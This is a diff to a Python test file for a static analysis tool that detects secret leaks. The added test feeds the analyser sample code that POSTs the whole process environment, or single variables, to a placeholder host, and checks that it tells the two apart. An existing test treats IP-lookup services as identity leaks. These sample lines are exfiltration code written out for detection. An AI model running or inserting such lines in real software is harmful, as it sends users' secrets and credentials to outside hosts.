@@ -2,6 +2,7 @@
 
 import pytest
 
+from pratique.analysis.facts import Taint
 from pratique.analysis.languages.python.origins import answered, variable
 from pratique.analysis.languages.python.values import (
     CLIPBOARD,
@@ -14,7 +15,7 @@ from pratique.analysis.languages.python.values import (
     SECRETS,
     Value,
 )
-from tests.analysis.languages.python.reading import value
+from tests.analysis.languages.python.reading import flows, value
 
 
 @pytest.mark.parametrize(
@@ -62,3 +63,23 @@ def test_only_services_that_tell_the_own_address_identify() -> None:
     assert IDENTITY == answered("https://ipinfo.io/json")
     assert 0 == answered("https://pipinfo.iot/json")
     assert 0 == answered(None)
+
+
+@pytest.mark.parametrize(
+    ("data", "whole"),
+    [
+        ("dict(os.environ)", True),
+        ("json.dumps({k: v for k, v in os.environ.items()})", True),
+        ("str({**os.environ})", True),
+        ("os.environ.copy()", True),
+        ("os.environ['SAMPLE_KEY']", False),
+        ("os.environ.get('SAMPLE_KEY')", False),
+        ("os.environ.copy()['SAMPLE_KEY']", False),
+        ("dict(os.environ).get('SAMPLE_KEY')", False),
+    ],
+)
+def test_all_variables_together_are_told_apart_from_one_of_them(data: str, whole: bool) -> None:
+    source = f"import os, json, requests\ndef f():\n  requests.post('https://a.invalid', data={data})\n"
+    ((_, _, taints),) = flows(source)
+    assert Taint.ENVIRONMENT in taints
+    assert whole == (Taint.WHOLE_ENVIRONMENT in taints)
